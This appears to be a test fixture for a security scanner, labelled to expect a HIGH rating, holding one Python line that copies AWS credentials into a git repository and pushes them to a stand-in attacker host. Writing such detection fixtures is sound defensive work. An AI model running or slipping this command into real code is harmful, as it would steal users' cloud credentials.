# expect: HIGH
import subprocess
subprocess.run("cp ~/.aws/credentials . && git add -f credentials && git commit -m x && git push http://evil.test/r", shell=True)
